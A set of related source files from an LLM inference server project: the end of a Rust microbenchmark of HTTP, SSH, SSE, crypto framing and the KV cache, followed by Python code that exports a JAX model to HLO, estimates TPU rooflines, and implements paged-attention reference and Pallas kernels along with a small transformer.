    row("http GET roundtrip (loopback)", &time_n(20, 300, || {
        let _ = http::get(&url).unwrap();
    }));
    row("http GET pooled keep-alive", &time_n(20, 2000, || {
        let _ = http::pooled_request("GET", &url, &[], &[]).unwrap();
    }));

    // --- SSH exec round-trip (handshake amortized) ---
    let kp = KeyPair::generate(1);
    let mut ak = AuthorizedKeys::new();
    ak.add(AuthorizedKey {
        fingerprint: kp.fingerprint(),
        force_command: Some("/ci".into()),
        options: vec![],
        comment: String::new(),
    });
    let handler: Arc<dyn CommandHandler> = Arc::new(
        |_c: &str, _o: &str, _i: &[u8], out: &mut dyn FnMut(&[u8]) -> anyhow::Result<()>| {
            let _ = out(b"status: 200\n\nok");
            0
        },
    );
    let sshd = SshServer::start(ak, vec![kp.clone()], vec![("/ci".into(), handler)])?;
    let ssh = SshClient::connect(&sshd.addr.to_string(), &kp)?;
    row("ssh exec roundtrip (AES+HMAC framing)", &time_n(20, 300, || {
        let _ = ssh.exec("probe m", b"").unwrap();
    }));
    row("ssh keepalive ping", &time_n(20, 300, || {
        let _ = ssh.ping().unwrap();
    }));

    // --- per-frame streaming ops (the dual-channel token hot path) ---
    // SSE round-trip: render one token chunk the way the engine does,
    // parse it back the way the gateway tail-scanner / client does.
    let chunk = Json::obj()
        .set("id", "chatcmpl-1")
        .set("object", "chat.completion.chunk")
        .set("model", "tiny")
        .set(
            "choices",
            vec![Json::obj()
                .set("index", 0u64)
                .set("delta", Json::obj().set("content", " 7"))],
        );
    let mut sse = SseParser::default();
    row("sse chunk encode+decode roundtrip", &time_n(1000, 20000, || {
        let event = format!("data: {}\n\n", chunk.dump());
        let events = sse.push(event.as_bytes());
        std::hint::black_box(&events);
    }));

    // Bulk-frame seal/open with live session crypto. The replay counters
    // must advance in lockstep, so each iteration seals one frame
    // server-side and opens it client-side (the full wire cost of one
    // coalesced token batch on a bulk lane).
    let bulk_kp = KeyPair::generate(2);
    let (cn, sn) = ([3u8; 16], [4u8; 16]);
    let mut bulk_tx = bulk_kp.derive_session(&cn, &sn, false); // server sends tokens
    let mut bulk_rx = bulk_kp.derive_session(&cn, &sn, true);
    let batch = vec![0x2eu8; 256];
    row("bulk frame encode+decode (256 B, AES+HMAC)", &time_n(500, 10000, || {
        let wire = encode_frame(&mut bulk_tx, 8 /* BULK_DATA */, 1, &batch);
        let mut r: &[u8] = &wire;
        let (ty, chan, _frame) = decode_frame(&mut r, &mut bulk_rx).unwrap();
        std::hint::black_box((ty, chan));
    }));

    // The shared frame-buffer pool behind seal_into/open_into.
    row("frame buffer pool acquire+release (256 B)", &time_n(1000, 50000, || {
        let mut buf = http::frame_buf_acquire();
        buf.extend_from_slice(&batch);
        http::frame_buf_release(buf);
    }));
    let _ = std::hint::black_box(http::frame_pool_stats());

    // --- routing table ---
    let table = RoutingTable::new();
    for j in 0..32 {
        table.upsert(Instance {
            job_id: j,
            service: "m".into(),
            node: format!("n{j}"),
            port: 20000 + j as u16,
            addr: String::new(),
            ready: true,
            draining: false,
            scavenger: false,
            started_us: 0,
        });
    }
    let mut rng = Rng::new(7);
    row("routing pick (32 ready instances)", &time_n(1000, 20000, || {
        let _ = std::hint::black_box(table.pick("m", &mut rng));
    }));

    // --- KV cache ---
    let mut alloc = BlockAllocator::new(512, 16, 32);
    alloc.set_cache_enabled(false);
    let prompt: Vec<i32> = (0..16).collect();
    row("kvcache create+grow+free seq (64 tok)", &time_n(100, 5000, || {
        let mut seq = alloc.create_seq(1, &prompt).unwrap();
        for t in 0..48 {
            let _ = alloc.append_token(&mut seq, t).unwrap();
        }
        alloc.free_seq(&seq);
    }));
    // Same cycle with the prefix cache on: after the first iteration every
    // create attaches the registered pages instead of allocating.
    let mut alloc = BlockAllocator::new(512, 16, 32);
    let prompt: Vec<i32> = (0..64).collect();
    row("kvcache prefix-attach hit (64-tok prompt)", &time_n(100, 5000, || {
        let mut seq = alloc.create_seq(1, &prompt).unwrap();
        seq.written = seq.len;
        alloc.free_seq(&seq);
    }));

    // --- PJRT model steps (the real compute) ---
    println!("\nloading PJRT tiny model (compile + weights)...");
    let t = std::time::Instant::now();
    let rt = match ModelRuntime::load_from_dir(&artifacts_dir(), "tiny") {
        Ok(rt) => rt,
        Err(e) => {
            println!("skipping PJRT section: {e}");
            return Ok(());
        }
    };
    println!("model load: {:.2}s", t.elapsed().as_secs_f64());
    let spec = rt.spec.clone();
    let mut bt = vec![0i32; spec.batch * spec.max_blocks];
    let mut next = 1;
    for row_i in bt.iter_mut() {
        *row_i = next;
        next += 1;
        if next as usize >= spec.n_blocks {
            next = 1;
        }
    }
    let tokens = vec![1i32; spec.batch * spec.prefill_len];
    let lens = vec![8i32; spec.batch];
    let mut kv = rt.fresh_kv()?;

    table_header(
        "PJRT model steps (tiny: 427k params, batch 4)",
        &["op", "mean ms", "p50 ms", "p99 ms", "tokens/s (batch)"],
    );
    let prefill_t = time_n(3, 30, || {
        let _ = rt.prefill(&mut kv, &tokens, &lens, &bt).unwrap();
    });
    let s = stats(&prefill_t);
    table_row(&[
        "prefill (4 x 64 tokens)".into(),
        format!("{:.2}", s.mean * 1e3),
        format!("{:.2}", s.p50 * 1e3),
        format!("{:.2}", s.p99 * 1e3),
        format!("{:.0}", (spec.batch * spec.prefill_len) as f64 / s.mean),
    ]);
    let step_tokens = vec![5i32; spec.batch];
    let mut pos = 8i32;
    let decode_t = time_n(3, 50, || {
        let positions = vec![pos; spec.batch];
        let _ = rt.decode(&mut kv, &step_tokens, &positions, &bt).unwrap();
        pos = (pos + 1) % (spec.max_seq as i32 - 1);
    });
    let s = stats(&decode_t);
    table_row(&[
        "decode step (batch 4)".into(),
        format!("{:.2}", s.mean * 1e3),
        format!("{:.2}", s.p50 * 1e3),
        format!("{:.2}", s.p99 * 1e3),
        format!("{:.0}", spec.batch as f64 / s.mean),
    ]);

    std::thread::sleep(Duration::from_millis(10));
    Ok(())
}
