"""AOT compile path: lower the L2 model to HLO *text* + emit weights/manifest.

Runs once at build time (`make artifacts`); the Rust runtime loads the HLO
text via `HloModuleProto::from_text_file` and executes it through PJRT.
Python never appears on the request path.

HLO text (NOT `.serialize()`) is the interchange format: jax >= 0.5 emits
HloModuleProto with 64-bit instruction ids which xla_extension 0.5.1 (the
version the published `xla` 0.1.6 crate binds) rejects; the text parser
reassigns ids and round-trips cleanly. See /opt/xla-example/README.md.
"""

import argparse
import hashlib
import json
import os

import jax
import jax.numpy as jnp
import numpy as np
from jax._src.lib import xla_client as xc

from .model import (
    CONFIGS,
    decode_step,
    example_args_decode,
    example_args_prefill,
    init_params,
    make_decode_fn,
    make_prefill_fn,
    param_count,
    prefill,
)


def to_hlo_text(lowered) -> str:
    """StableHLO -> XlaComputation -> HLO text (id-safe interchange)."""
    mlir_mod = lowered.compiler_ir("stablehlo")
    comp = xc._xla.mlir.mlir_module_to_xla_computation(
        str(mlir_mod), use_tuple_args=False, return_tuple=True
    )
    return comp.as_hlo_text()


def export_model(cfg, out_dir: str) -> dict:
    """Lower prefill + decode for `cfg`, write artifacts, return manifest entry."""
    prefill_lowered = jax.jit(make_prefill_fn(cfg)).lower(*example_args_prefill(cfg))
    decode_lowered = jax.jit(make_decode_fn(cfg)).lower(*example_args_decode(cfg))

    files = {}
    for tag, lowered in [("prefill", prefill_lowered), ("decode", decode_lowered)]:
        text = to_hlo_text(lowered)
        fname = f"{cfg.name}.{tag}.hlo.txt"
        with open(os.path.join(out_dir, fname), "w") as f:
            f.write(text)
        files[tag] = fname

    weights = init_params(cfg)
    wname = f"{cfg.name}.weights.bin"
    weights.tofile(os.path.join(out_dir, wname))
    digest = hashlib.sha256(weights.tobytes()).hexdigest()

    return {
        "name": cfg.name,
        "files": {**files, "weights": wname},
        "weights_sha256": digest,
        "param_count": param_count(cfg),
        "vocab": cfg.vocab,
        "d_model": cfg.d_model,
        "n_layers": cfg.n_layers,
        "n_heads": cfg.n_heads,
        "head_dim": cfg.head_dim,
        "d_ff": cfg.d_ff,
        "batch": cfg.batch,
        "prefill_len": cfg.prefill_len,
        "block_size": cfg.block_size,
        "n_blocks": cfg.n_blocks,
        "max_blocks": cfg.max_blocks,
        "max_seq": cfg.max_seq,
        "seed": cfg.seed,
    }


def make_golden(cfg) -> dict:
    """Run the real model in JAX and record outputs for the Rust runtime to
    reproduce bit-for-bit(ish): the cross-language correctness anchor.

    Scenario: prefill a fixed prompt per batch row, then three greedy decode
    steps. Records the first 8 logits of each step.
    """
    w = jnp.asarray(init_params(cfg))
    pool_shape = (cfg.n_layers, cfg.n_blocks, cfg.block_size, cfg.n_heads, cfg.head_dim)
    k_pools = jnp.zeros(pool_shape, jnp.float32)
    v_pools = jnp.zeros(pool_shape, jnp.float32)
    # Same deterministic block-table allocation the Rust test uses:
    # row b owns blocks [1 + b*max_blocks, 1 + (b+1)*max_blocks).
    bt = np.zeros((cfg.batch, cfg.max_blocks), np.int32)
    nxt = 1
    for b in range(cfg.batch):
        for j in range(cfg.max_blocks):
            bt[b, j] = nxt
            nxt += 1
    bt = jnp.asarray(bt)

    prompts = [
        [2 + ((7 * i + b * 13) % (cfg.vocab - 4)) for i in range(5 + b)]
        for b in range(cfg.batch)
    ]
    tokens = np.zeros((cfg.batch, cfg.prefill_len), np.int32)
    lens = np.zeros((cfg.batch,), np.int32)
    for b, prompt in enumerate(prompts):
        tokens[b, : len(prompt)] = prompt
        lens[b] = len(prompt)

    logits, k_pools, v_pools = prefill(
        cfg, w, jnp.asarray(tokens), jnp.asarray(lens), k_pools, v_pools, bt
    )
    steps = [{"logits8": np.asarray(logits)[:, :8].tolist()}]
    next_tokens = np.asarray(jnp.argmax(logits, axis=-1), np.int32)
    positions = lens.copy()
    for _ in range(3):
        logits, k_pools, v_pools = decode_step(
            cfg,
            w,
            jnp.asarray(next_tokens),
            jnp.asarray(positions),
            k_pools,
            v_pools,
            bt,
        )
        steps.append(
            {
                "fed_tokens": next_tokens.tolist(),
                "positions": positions.tolist(),
                "logits8": np.asarray(logits)[:, :8].tolist(),
            }
        )
        next_tokens = np.asarray(jnp.argmax(logits, axis=-1), np.int32)
        positions += 1

    return {
        "model": cfg.name,
        "prompts": prompts,
        "prompt_lens": lens.tolist(),
        "block_tables": np.asarray(bt).tolist(),
        "steps": steps,
    }


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--out", default="../artifacts", help="artifact output directory")
    ap.add_argument(
        "--models",
        default="tiny",
        help="comma-separated config names to export (default: tiny)",
    )
    args = ap.parse_args()

    os.makedirs(args.out, exist_ok=True)
    entries = []
    for name in args.models.split(","):
        cfg = CONFIGS[name]
        entry = export_model(cfg, args.out)
        golden = make_golden(cfg)
        gname = f"{cfg.name}.golden.json"
        with open(os.path.join(args.out, gname), "w") as f:
            json.dump(golden, f)
        entry["files"]["golden"] = gname
        entries.append(entry)
        print(
            f"exported {name}: {entry['param_count']} params, "
            f"batch={cfg.batch}, max_seq={cfg.max_seq}"
        )

    manifest = {"version": 1, "models": entries}
    with open(os.path.join(args.out, "manifest.json"), "w") as f:
        json.dump(manifest, f, indent=2)
    print(f"wrote {os.path.join(args.out, 'manifest.json')}")


if __name__ == "__main__":
    main()
