"""L1 perf analysis: VMEM footprint + MXU utilization estimates for the
paged-attention Pallas kernel, per BlockSpec.

CPU interpret-mode wallclock is NOT a TPU proxy (DESIGN.md §Perf), so the
kernel is optimized structurally: this tool computes, for a given model
geometry and page size, what one grid step moves through VMEM and how well
the contractions feed the MXU — the numbers a TPU deployment would tune
block_size against.

Run: cd python && python -m compile.roofline
"""

import dataclasses

from .model import CONFIGS, ModelConfig

# TPU v5e-ish single-core envelope (order-of-magnitude planning numbers).
VMEM_BYTES = 16 * 1024 * 1024
HBM_GBPS = 800.0
MXU_TFLOPS_BF16 = 200.0
MXU_TILE = 128  # systolic array edge


@dataclasses.dataclass
class KernelEstimate:
    block_size: int
    vmem_per_step: int
    flops_per_page: int
    bytes_per_page: int
    intensity: float
    mxu_lane_util: float
    est_bound: str


def estimate(cfg: ModelConfig, block_size: int, ctx_len: int) -> KernelEstimate:
    h, d = cfg.n_heads, cfg.head_dim
    f32 = 4

    # Per grid step (one batch row), the kernel holds in VMEM:
    #   q tile [H, D], one KV page x2 [bs, H, D], block-table row,
    #   online-softmax accumulators m/l [H,1] and acc [H, D].
    q_tile = h * d * f32
    page = block_size * h * d * f32
    acc = (h * d + 2 * h) * f32
    vmem = q_tile + 2 * page + acc + cfg.max_blocks * 4

    # Per page processed: scores q.k^T (2*H*D*bs flops) + softmax merge
    # (~6*H*bs) + weighted V (2*H*bs*D flops); bytes moved HBM->VMEM: the
    # K and V page (q stays resident).
    flops = 2 * h * d * block_size + 6 * h * block_size + 2 * h * block_size * d
    bytes_moved = 2 * page
    intensity = flops / bytes_moved

    # MXU feeding: the contraction shapes are [H,D]x[D,bs] and [H,bs]x[bs,D].
    # Lane utilization ~ how much of the 128-wide tile the short edges fill.
    lane = min(1.0, d / MXU_TILE) * min(1.0, block_size / MXU_TILE)

    # Bound check at this intensity vs the machine balance point.
    balance = MXU_TFLOPS_BF16 * 1e12 / (HBM_GBPS * 1e9)
    bound = "memory-bound" if intensity < balance else "compute-bound"
    return KernelEstimate(block_size, vmem, flops, bytes_moved, intensity, lane, bound)


def main() -> None:
    print("paged-attention kernel roofline estimates (per grid step = one batch row)\n")
    for name, cfg in CONFIGS.items():
        print(f"model config '{name}': H={cfg.n_heads} D={cfg.head_dim} max_seq={cfg.max_seq}")
        print("| block_size | VMEM/step | flops/page | bytes/page | intensity (F/B) | MXU lane util | bound |")
        print("|---|---|---|---|---|---|---|")
        for bs in (8, 16, 32, 64, 128):
            e = estimate(cfg, bs, cfg.max_seq)
            print(
                f"| {e.block_size} | {e.vmem_per_step/1024:.1f} KiB | {e.flops_per_page} |"
                f" {e.bytes_per_page} | {e.intensity:.2f} | {e.mxu_lane_util:.2%} | {e.est_bound} |"
            )
        chosen = estimate(cfg, cfg.block_size, cfg.max_seq)
        print(
            f"shipped block_size={cfg.block_size}: VMEM/step {chosen.vmem_per_step/1024:.1f} KiB"
            f" of {VMEM_BYTES/1024/1024:.0f} MiB ({chosen.vmem_per_step/VMEM_BYTES:.3%}),"
            f" {chosen.est_bound}"
        )
        # Decode attention is always memory-bound (intensity ~= 1 flop/byte):
        # the win of paging is zero *wasted* bytes — only pages holding live
        # tokens ever cross HBM->VMEM, vLLM's PagedAttention insight.
        print()


if __name__ == "__main__":
    main()
