"""Pure-jnp oracles for the Pallas kernels.

These are the correctness references: slow, obvious implementations with no
paging tricks. `test_kernel.py` sweeps shapes/dtypes with hypothesis and
asserts the Pallas kernel matches these to float32 tolerance.
"""

import jax.numpy as jnp


def gather_kv(k_pool, v_pool, block_tables):
    """Gather paged KV pools into contiguous per-sequence caches.

    Args:
      k_pool, v_pool: [n_blocks, block_size, n_heads, head_dim]
      block_tables: [batch, max_blocks] int32 indices into the pool
    Returns:
      k, v: [batch, max_blocks * block_size, n_heads, head_dim]
    """
    bsz, max_blocks = block_tables.shape
    _, block_size, n_heads, head_dim = k_pool.shape
    k = k_pool[block_tables.reshape(-1)]  # [bsz*max_blocks, bs, H, D]
    v = v_pool[block_tables.reshape(-1)]
    k = k.reshape(bsz, max_blocks * block_size, n_heads, head_dim)
    v = v.reshape(bsz, max_blocks * block_size, n_heads, head_dim)
    return k, v


def paged_decode_attention_ref(q, k_pool, v_pool, block_tables, context_lens):
    """Reference paged decode attention (one query token per sequence).

    Args:
      q: [batch, n_heads, head_dim] query for the newest token
      k_pool, v_pool: [n_blocks, block_size, n_heads, head_dim]
      block_tables: [batch, max_blocks] int32
      context_lens: [batch] int32 — number of valid KV positions (>= 1)
    Returns:
      out: [batch, n_heads, head_dim]
    """
    _, _, head_dim = q.shape
    block_size = k_pool.shape[1]
    max_blocks = block_tables.shape[1]
    k, v = gather_kv(k_pool, v_pool, block_tables)  # [B, S, H, D]
    s = max_blocks * block_size

    scale = 1.0 / jnp.sqrt(jnp.asarray(head_dim, jnp.float32))
    scores = jnp.einsum(
        "bhd,bshd->bhs", q.astype(jnp.float32), k.astype(jnp.float32)
    ) * scale
    pos = jnp.arange(s)[None, None, :]
    mask = pos < context_lens[:, None, None]
    scores = jnp.where(mask, scores, -1e30)
    weights = jnp.exp(scores - jnp.max(scores, axis=-1, keepdims=True))
    weights = weights / jnp.sum(weights, axis=-1, keepdims=True)
    out = jnp.einsum("bhs,bshd->bhd", weights, v.astype(jnp.float32))
    return out.astype(q.dtype)


def causal_attention_ref(q, k, v, valid_lens):
    """Reference full causal attention for the prefill path.

    Args:
      q, k, v: [batch, seq, n_heads, head_dim]
      valid_lens: [batch] int32 — tokens beyond this are padding
    Returns:
      out: [batch, seq, n_heads, head_dim]
    """
    _, seq, _, head_dim = q.shape
    scale = 1.0 / jnp.sqrt(jnp.asarray(head_dim, jnp.float32))
    scores = jnp.einsum(
        "bqhd,bkhd->bhqk", q.astype(jnp.float32), k.astype(jnp.float32)
    ) * scale
    qpos = jnp.arange(seq)[None, None, :, None]
    kpos = jnp.arange(seq)[None, None, None, :]
    causal = kpos <= qpos
    valid = kpos < valid_lens[:, None, None, None]
    scores = jnp.where(causal & valid, scores, -1e30)
    weights = jnp.exp(scores - jnp.max(scores, axis=-1, keepdims=True))
    weights = weights / jnp.sum(weights, axis=-1, keepdims=True)
    out = jnp.einsum("bhqk,bkhd->bqhd", weights, v.astype(jnp.float32))
    return out.astype(q.dtype)
