"""L1: paged decode-attention as a Pallas kernel (flash-decode style).

This is the TPU rethink of vLLM's CUDA PagedAttention (DESIGN.md
§Hardware-Adaptation):

- vLLM's *block table indirection through GPU shared memory* becomes
  dynamic `pl.load` gathers of KV pages from the pool ref — on real TPU
  hardware that is the HBM→VMEM DMA schedule; a page (`block_size × n_heads
  × head_dim`) is the VMEM tile unit.
- vLLM's *warp-per-sequence reduction* becomes a `grid=(batch,)` Pallas grid
  with an **online-softmax accumulator** carried across pages
  (flash-decode): each page contributes a partial max / partial sum /
  partial weighted-V which are merged in registers, so the full score row is
  never materialised.
- The score (`q·kᵀ`) and value (`w·v`) contractions are MXU-shaped
  matmuls: `head_dim` and `block_size` are kept at multiples that pad to
  the 128-lane MXU tile on real hardware.

`interpret=True` is mandatory here: the CPU PJRT plugin cannot execute
Mosaic custom-calls, so the kernel is lowered to plain HLO ops. Numeric
behaviour is identical; TPU performance is estimated analytically in
`compile/roofline.py`.
"""

import functools

import jax
import jax.numpy as jnp
from jax.experimental import pallas as pl


def _paged_decode_kernel(
    q_ref,  # [1, n_heads, head_dim]
    bt_ref,  # [1, max_blocks] int32 block table row
    len_ref,  # [1] int32 context length
    k_pool_ref,  # [n_blocks, block_size, n_heads, head_dim]
    v_pool_ref,  # [n_blocks, block_size, n_heads, head_dim]
    o_ref,  # [1, n_heads, head_dim]
    *,
    max_blocks: int,
    block_size: int,
):
    q = q_ref[0].astype(jnp.float32)  # [H, D]
    n_heads, head_dim = q.shape
    scale = 1.0 / jnp.sqrt(jnp.asarray(head_dim, jnp.float32))
    ctx_len = len_ref[0]

    # Online-softmax accumulators, carried across KV pages.
    m = jnp.full((n_heads, 1), -1e30, jnp.float32)  # running max
    l = jnp.zeros((n_heads, 1), jnp.float32)  # running sum
    acc = jnp.zeros((n_heads, head_dim), jnp.float32)  # running weighted V

    # Static unrolled loop over pages: page j covers global positions
    # [j*block_size, (j+1)*block_size). Pages past the context contribute
    # nothing (their scores are masked to -inf).
    for j in range(max_blocks):
        block_id = bt_ref[0, j]
        k = pl.load(k_pool_ref, (block_id,))  # [bs, H, D]
        v = pl.load(v_pool_ref, (block_id,))
        k = k.astype(jnp.float32)
        v = v.astype(jnp.float32)

        # scores[h, i] = q[h, :] . k[i, h, :]
        scores = jnp.einsum("hd,ihd->hi", q, k) * scale
        gpos = j * block_size + jnp.arange(block_size)
        valid = (gpos < ctx_len)[None, :]
        scores = jnp.where(valid, scores, -1e30)

        # Merge this page into the online softmax state.
        page_max = jnp.max(scores, axis=-1, keepdims=True)  # [H, 1]
        new_m = jnp.maximum(m, page_max)
        correction = jnp.exp(m - new_m)
        p = jnp.exp(scores - new_m)  # [H, bs]
        l = l * correction + jnp.sum(p, axis=-1, keepdims=True)
        acc = acc * correction + jnp.einsum("hi,ihd->hd", p, v)
        m = new_m

    o_ref[0] = (acc / l).astype(o_ref.dtype)


@functools.partial(jax.jit, static_argnames=("interpret",))
def paged_decode_attention(q, k_pool, v_pool, block_tables, context_lens, interpret=True):
    """Paged decode attention via Pallas.

    Args:
      q: [batch, n_heads, head_dim] — newest-token queries.
      k_pool, v_pool: [n_blocks, block_size, n_heads, head_dim] KV pools.
      block_tables: [batch, max_blocks] int32.
      context_lens: [batch] int32, each >= 1.
    Returns:
      [batch, n_heads, head_dim] attention output.
    """
    batch, n_heads, head_dim = q.shape
    n_blocks, block_size, _, _ = k_pool.shape
    max_blocks = block_tables.shape[1]

    kernel = functools.partial(
        _paged_decode_kernel, max_blocks=max_blocks, block_size=block_size
    )
    return pl.pallas_call(
        kernel,
        grid=(batch,),
        in_specs=[
            # One query row per grid step: the VMEM-resident operand.
            pl.BlockSpec((1, n_heads, head_dim), lambda b: (b, 0, 0)),
            pl.BlockSpec((1, max_blocks), lambda b: (b, 0)),
            pl.BlockSpec((1,), lambda b: (b,)),
            # Pools stay unblocked: pages are gathered with dynamic loads —
            # on TPU this is the HBM→VMEM DMA the block table drives.
            pl.BlockSpec((n_blocks, block_size, n_heads, head_dim), lambda b: (0, 0, 0, 0)),
            pl.BlockSpec((n_blocks, block_size, n_heads, head_dim), lambda b: (0, 0, 0, 0)),
        ],
        out_specs=pl.BlockSpec((1, n_heads, head_dim), lambda b: (b, 0, 0)),
        out_shape=jax.ShapeDtypeStruct((batch, n_heads, head_dim), q.dtype),
        interpret=interpret,
    )(q, block_tables, context_lens, k_pool, v_pool)
