"""L2: the served LLM — a decoder-only transformer in JAX with a paged KV
cache, calling the L1 Pallas kernel for decode attention.

Architecture (llama-flavoured, sized to run through CPU-PJRT per token):
  token embedding (tied LM head) → N × [RMSNorm → MHA(RoPE, paged KV) →
  RMSNorm → GELU MLP] → final RMSNorm → logits.

All parameters live in ONE flat f32 vector so the AOT interface between the
Rust runtime and the HLO stays a single weights buffer (`weights.bin`); the
static slicing below is resolved entirely at trace time.

Two programs are exported (see `aot.py`):
  prefill(w, tokens[B,S], prompt_lens[B], k_pool, v_pool, block_tables)
      -> (last_logits[B,V], k_pool', v_pool')
  decode (w, tokens[B], positions[B], k_pool, v_pool, block_tables)
      -> (logits[B,V], k_pool', v_pool')

`positions[b]` is the index of the token being decoded; after the call the
context length for row b is `positions[b] + 1`. The KV pools are paged:
`block_tables[b, j]` names the pool page backing positions
`[j*block_size, (j+1)*block_size)` of sequence b — the Rust KV-cache
manager owns the allocation (llmserver/kvcache.rs).
"""

import dataclasses
import functools
from typing import Tuple

import jax
import jax.numpy as jnp
import numpy as np

from .kernels.attention import paged_decode_attention
from .kernels.ref import causal_attention_ref


@dataclasses.dataclass(frozen=True)
class ModelConfig:
    name: str = "tiny"
    vocab: int = 260  # 256 bytes + BOS/EOS/PAD/UNK
    d_model: int = 128
    n_layers: int = 2
    n_heads: int = 4
    head_dim: int = 32
    d_ff: int = 512
    # Serving shapes baked into the AOT artifacts:
    batch: int = 4  # engine pads the running batch to this
    prefill_len: int = 64  # prompt chunk length
    block_size: int = 16  # KV page size (tokens per page)
    # Pool pages shared by the whole batch. §Perf: the pools round-trip
    # host<->device every step through the published xla crate, so the pool
    # is sized tight (batch*max_blocks + scratch + 3 spare) — shrinking it
    # 96 -> 68 cut the measured decode step time (copy-bound on CPU).
    n_blocks: int = 68
    max_blocks: int = 16  # pages per sequence -> max_seq = 256
    seed: int = 20240805  # paper publication date; weights are synthetic

    @property
    def max_seq(self) -> int:
        return self.block_size * self.max_blocks

    @property
    def qkv_dim(self) -> int:
        return self.n_heads * self.head_dim


# Named parameter layout inside the flat vector, in order.
def param_shapes(cfg: ModelConfig):
    shapes = [("embed", (cfg.vocab, cfg.d_model))]
    for i in range(cfg.n_layers):
        shapes += [
            (f"l{i}.ln1", (cfg.d_model,)),
            (f"l{i}.wq", (cfg.d_model, cfg.qkv_dim)),
            (f"l{i}.wk", (cfg.d_model, cfg.qkv_dim)),
            (f"l{i}.wv", (cfg.d_model, cfg.qkv_dim)),
            (f"l{i}.wo", (cfg.qkv_dim, cfg.d_model)),
            (f"l{i}.ln2", (cfg.d_model,)),
            (f"l{i}.w_up", (cfg.d_model, cfg.d_ff)),
            (f"l{i}.w_down", (cfg.d_ff, cfg.d_model)),
        ]
    shapes.append(("ln_f", (cfg.d_model,)))
    return shapes


def param_count(cfg: ModelConfig) -> int:
    return sum(int(np.prod(s)) for _, s in param_shapes(cfg))


def unpack_params(cfg: ModelConfig, w):
    """Slice the flat vector into a dict of named tensors (trace-time)."""
    out = {}
    off = 0
    for name, shape in param_shapes(cfg):
        n = int(np.prod(shape))
        out[name] = w[off : off + n].reshape(shape)
        off += n
    assert off == w.shape[0], f"flat param vector has {w.shape[0]}, need {off}"
    return out


def init_params(cfg: ModelConfig) -> np.ndarray:
    """Deterministic synthetic weights (no open checkpoints offline).

    Scaled-gaussian init; norm gains start at 1. The seed is part of the
    config so `weights.bin` is bit-reproducible.
    """
    rng = np.random.default_rng(cfg.seed)
    chunks = []
    for name, shape in param_shapes(cfg):
        if name.endswith(("ln1", "ln2", "ln_f")):
            chunks.append(np.ones(shape, np.float32).reshape(-1))
        else:
            fan_in = shape[0] if len(shape) > 1 else shape[0]
            std = 1.0 / np.sqrt(fan_in)
            chunks.append(rng.normal(0.0, std, size=shape).astype(np.float32).reshape(-1))
    return np.concatenate(chunks)


def rms_norm(x, gain, eps=1e-5):
    var = jnp.mean(jnp.square(x.astype(jnp.float32)), axis=-1, keepdims=True)
    return (x * jax.lax.rsqrt(var + eps) * gain).astype(x.dtype)


def rope(x, positions):
    """Rotary position embedding.

    Args:
      x: [..., n_heads, head_dim]
      positions: broadcastable to x's leading dims (one position per token).
    """
    head_dim = x.shape[-1]
    half = head_dim // 2
    freqs = 1.0 / (10000.0 ** (jnp.arange(half, dtype=jnp.float32) / half))
    angles = positions[..., None, None].astype(jnp.float32) * freqs  # [..., 1, half]
    cos, sin = jnp.cos(angles), jnp.sin(angles)
    x1, x2 = x[..., :half], x[..., half:]
    return jnp.concatenate(
        [x1 * cos - x2 * sin, x1 * sin + x2 * cos], axis=-1
    ).astype(x.dtype)


def _scatter_kv_decode(pool, block_tables, positions, new_kv, cfg: ModelConfig):
    """Write one token's K or V per row into the paged pool.

    pool: [n_blocks, bs, H, D]; new_kv: [B, H, D]; positions: [B].
    """
    block_ids = jnp.take_along_axis(
        block_tables, (positions // cfg.block_size)[:, None], axis=1
    )[:, 0]
    slots = positions % cfg.block_size
    return pool.at[block_ids, slots].set(new_kv)


def _scatter_kv_prefill(pool, block_tables, prompt_lens, new_kv, cfg: ModelConfig):
    """Write a whole prompt chunk into the paged pool.

    pool: [n_blocks, bs, H, D]; new_kv: [B, S, H, D].
    Padding rows (s >= prompt_lens[b]) are redirected to a scratch write of
    the value already present (no-op via where on gathered old value).
    """
    bsz, seq = new_kv.shape[:2]
    pos = jnp.arange(seq)[None, :].astype(jnp.int32)  # [1, S]
    pos = jnp.broadcast_to(pos, (bsz, seq))
    blk_idx = pos // cfg.block_size
    block_ids = jnp.take_along_axis(block_tables, blk_idx, axis=1)  # [B, S]
    slots = pos % cfg.block_size
    valid = pos < prompt_lens[:, None]

    flat_ids = block_ids.reshape(-1)
    flat_slots = slots.reshape(-1)
    flat_kv = new_kv.reshape(bsz * seq, *new_kv.shape[2:])
    old = pool[flat_ids, flat_slots]
    merged = jnp.where(valid.reshape(-1)[:, None, None], flat_kv, old)
    return pool.at[flat_ids, flat_slots].set(merged)


def decode_step(cfg: ModelConfig, w, tokens, positions, k_pools, v_pools, block_tables):
    """One decode step for the whole running batch.

    Args:
      w: flat f32 params [P]
      tokens: [B] int32 — token ids being decoded
      positions: [B] int32 — their positions (ctx_len - 1)
      k_pools, v_pools: [L, n_blocks, bs, H, D]
      block_tables: [B, max_blocks] int32
    Returns:
      (logits [B, vocab], k_pools', v_pools')
    """
    p = unpack_params(cfg, w)
    x = p["embed"][tokens]  # [B, d]
    ctx_lens = positions + 1

    new_k_pools = []
    new_v_pools = []
    for i in range(cfg.n_layers):
        h = rms_norm(x, p[f"l{i}.ln1"])
        q = (h @ p[f"l{i}.wq"]).reshape(-1, cfg.n_heads, cfg.head_dim)
        k = (h @ p[f"l{i}.wk"]).reshape(-1, cfg.n_heads, cfg.head_dim)
        v = (h @ p[f"l{i}.wv"]).reshape(-1, cfg.n_heads, cfg.head_dim)
        q = rope(q, positions)
        k = rope(k, positions)

        k_pool = _scatter_kv_decode(k_pools[i], block_tables, positions, k, cfg)
        v_pool = _scatter_kv_decode(v_pools[i], block_tables, positions, v, cfg)
        new_k_pools.append(k_pool)
        new_v_pools.append(v_pool)

        # L1 Pallas kernel: paged flash-decode attention.
        attn = paged_decode_attention(q, k_pool, v_pool, block_tables, ctx_lens)
        x = x + attn.reshape(-1, cfg.qkv_dim) @ p[f"l{i}.wo"]

        h2 = rms_norm(x, p[f"l{i}.ln2"])
        x = x + jax.nn.gelu(h2 @ p[f"l{i}.w_up"]) @ p[f"l{i}.w_down"]

    x = rms_norm(x, p["ln_f"])
    logits = x @ p["embed"].T  # tied LM head
    return logits, jnp.stack(new_k_pools), jnp.stack(new_v_pools)


def prefill(cfg: ModelConfig, w, tokens, prompt_lens, k_pools, v_pools, block_tables):
    """Prefill a prompt chunk and return logits at each row's last token.

    Args:
      tokens: [B, S] int32 (padded with anything past prompt_lens)
      prompt_lens: [B] int32, 1 <= len <= S
